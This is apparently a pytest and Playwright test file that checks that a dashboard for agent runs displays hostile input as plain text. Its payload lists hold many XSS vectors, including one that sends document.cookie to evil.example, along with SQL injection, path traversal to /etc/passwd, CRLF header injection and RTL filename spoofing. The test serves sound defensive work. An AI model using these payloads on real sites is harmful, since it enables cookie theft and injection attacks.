"""Whatever somebody writes into a run stands on the pages as text: nothing runs, loads, hides or breaks."""

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Final

import pytest
from playwright.sync_api import BrowserContext, Dialog, Page, Request

from faces.board.desk import Pages, dashboard, entered, live
from faces.mcp.desk import Pipe, Place, note, place

pytestmark = pytest.mark.unmeasured

_RUNS: Final = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<math><mtext></table><img src onerror={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<a href='javascript:{}'>x</a>",
    "<form action='javascript:{}'><button>x",
    "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</pre></code><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus x='",
    "`onload={}`",
    "[x](javascript:{})",
    "![x](javascript:{})",
    "<javascript:{}>",
    "[x]: javascript:{}\n\n[x]",
    "```html\n<script>{}</script>\n```",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "<scr\0ipt>{}</scr\0ipt>".replace("\0", "\t"),
    "<SCRIPT>{}</SCRIPT>",
    "<x contenteditable onblur={}>",
    "<style>@import 'javascript:{}'</style>",
    "<marquee onstart={}>",
)
_CALLS: Final = ("alert(1)", "fetch('http://evil.example/?'+document.cookie)", "window.owned=1")
TABS: Final = (
    "",
    "/history?only=all",
    "/artifacts",
    "/graph?state=one",
)
_ODD: Final = (
    "{{ 7 * 7 }}{% raw %}{{ t }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "https://evil.example/x.png",
    "![x](http://evil.example/x.png)",
    "<img src=http://evil.example/x.png>",
    "<link rel=prefetch href=http://evil.example/>",
    "\u202egnp.exe",
    "\u2066hidden\u2069 \u200bzero",
    "\U000e0041\U000e0042 tags",
    "x" * 3000,
    "ض" * 200 + " العربية",
    "Z̸̡̛a̷l̴g̵o̶" * 20,
    "a\nb\n\n# c\n- d",
    "'; DROP TABLE runs; --",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: a=b",
    "data:text/html,<script>alert(1)</script>",
    "constructor __proto__ toString",
    "🏳️‍🌈 👩‍👩‍👧‍👦",
    "\u00a0nothing\u3000",
)


def strings() -> list[str]:
    """At least 120 texts that mean harm."""
    made = [
        one.replace("{}", call) for one in _RUNS for call in _CALLS[:2] if call == _CALLS[0] or "<" in one
    ]
    return [*made, *(one.replace("{}", _CALLS[2]) for one in _RUNS), *_ODD]


@pytest.fixture(scope="module")
def at(tmp_path_factory: pytest.TempPathFactory) -> Place:
    """A place for all of these."""
    return place(Path(tmp_path_factory.mktemp("hostile")) / "place")


@pytest.fixture(scope="module")
def runs(at: Place) -> list[tuple[str, str]]:
    """A run for each text, which has it in every field that an agent can write, and its id."""
    found = []
    with Pipe(at) as agent:
        for text in strings():
            begun = agent.start(goal=text, metadata={"who": text}, inputs={"what": text})
            kept = [{"type": "note", "title": text, "content": text, "description": text}]
            done = note(summary=text, artifacts=kept, references=[text], decisions=[text])
            told = agent.go_on(begun.token, **done)
            assert not told.failed, (text, told.text)
            agent.control(begun.run, text, reason=text)
            agent.control(begun.run, "pause", reason=text)
            found.append((text, begun.run))
    return found


@pytest.fixture(scope="module")
def shown(at: Place, runs: list[tuple[str, str]]) -> Iterator[Pages]:
    """The pages that show them."""
    assert runs
    with dashboard(at) as made:
        yield made


class Watched:
    """A page of which everything is noted that it must not do."""

    def __init__(self, page: Page, url: str) -> None:
        self.page, self.bad, self._url = page, list[str](), url
        page.on("dialog", self._asks)
        page.on("console", lambda message: self.bad.append(f"console {message.text}"))
        page.on("pageerror", lambda error: self.bad.append(f"error {error}"))
        page.on("popup", lambda popup: self.bad.append(f"popup {popup.url}"))
        page.on("request", self._loads)

    def _asks(self, dialog: Dialog) -> None:
        self.bad.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _loads(self, request: Request) -> None:
        if not request.url.startswith((f"{self._url}/", "ws://127.0.0.1")):
            self.bad.append(request.url)


def test_there_are_enough_texts() -> None:
    assert len(strings()) >= 120
    assert len(set(strings())) == len(strings())


def test_hostile_texts_stand_on_every_page_as_text(
    context: BrowserContext,
    shown: Pages,
    runs: list[tuple[str, str]],
    record_property: Callable[[str, object], None],
) -> None:
    watched = Watched(entered(context, shown, "/"), shown.url)
    page, points = watched.page, 0
    odd = (Path(__file__).parent / "odd.js").read_text("utf-8")
    for text, run in runs:
        paths = [f"/runs/{run}{tab}" for tab in TABS]
        assert page.evaluate(odd, paths) == "", text
        points += len(paths)
    for path in (
        "/",
        f"/?after={runs[60][1]}",
        f"/?after={runs[110][1]}",
        "/?q=%3Cscript%3E&agent=%22%3E%3Cimg+src%3Dx%3E",
    ):
        page.goto(shown.url + path)
        live(page)
        points += 1

    record_property("points", points)
    assert watched.bad == []
    assert page.evaluate("window.owned") is None
    assert points == 4 * len(runs) + 4


@pytest.mark.parametrize("number", [0, 20, 60, 100])
def test_hostile_texts_are_read_as_they_were_written(
    number: int, context: BrowserContext, shown: Pages, runs: list[tuple[str, str]]
) -> None:
    text, run = runs[number]
    watched = Watched(entered(context, shown, f"/runs/{run}"), shown.url)
    live(watched.page)

    assert watched.page.get_by_role("heading", level=1).inner_text() == text
    watched.page.goto(f"{shown.url}/runs/{run}/artifacts?n=1&raw=1")
    assert watched.page.locator(".raw").inner_text() == text
    assert watched.bad == []


def test_what_is_hidden_in_a_text_is_written_out(
    context: BrowserContext, shown: Pages, runs: list[tuple[str, str]]
) -> None:
    run = dict(runs)["\u202egnp.exe"]
    page = entered(context, shown, f"/runs/{run}")

    assert page.get_by_role("heading", level=1).inner_text() == "\\u{202e}gnp.exe"
    assert json.dumps(page.title()).startswith('"\\\\u{202e}gnp.exe')
